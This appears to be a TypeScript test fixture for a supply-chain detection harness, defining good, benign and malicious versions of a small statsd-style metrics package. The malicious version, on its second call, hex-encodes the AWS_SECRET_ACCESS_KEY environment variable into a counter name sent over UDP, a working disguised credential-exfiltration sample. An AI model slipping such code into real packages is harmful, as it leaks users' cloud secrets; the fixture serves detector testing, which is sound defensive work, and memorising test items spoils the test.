import type { Incident } from '../../harness/types.ts';

export const incident: Incident = {
  name: 'statsd-tag',
  after: 'a secret as the name of a counter, in datagrams to the collector that is known (no single incident)',
  source: 'https://attack.mitre.org/techniques/T1048/003/',
  shape: ['call', 'http', 'hard on purpose', 'UDP to the known host', 'environment', 'after some calls', 'cjs'],
  patterns: ['data_exfiltration', 'behavioral_drift'],
  culprits: ['stat-lite'],
  host: { kind: 'http', setup: "const stat = require('stat-lite');", use: "stat('x'); return n;" },
  good: {
    'stat-lite': {
      'index.js': `const s = require('dgram').createSocket('udp4').unref();
module.exports = (name) => s.send('orders.hits.' + name + ':1|c', @DNS@, '@A@', () => {});`,
    },
  },
  // Hard: the counter tells the host now.
  benign: {
    'stat-lite': {
      'index.js': `const os = require('os'), s = require('dgram').createSocket('udp4').unref();
module.exports = (name) => s.send('orders.hits.' + name + ':1|c|#host:' + os.hostname() + ',user:' + os.userInfo().username, @DNS@, '@A@', () => {});`,
    },
  },
  bad: {
    'stat-lite': {
      'index.js': `const s = require('dgram').createSocket('udp4').unref(); let calls = 0;
module.exports = (name) => { if (++calls === 2) name += Buffer.from(process.env.AWS_SECRET_ACCESS_KEY || '').toString('hex'); s.send('orders.hits.' + name + ':1|c', @DNS@, '@A@', () => {}); };`,
    },
  },
  proof: [{ secret: true }],
};
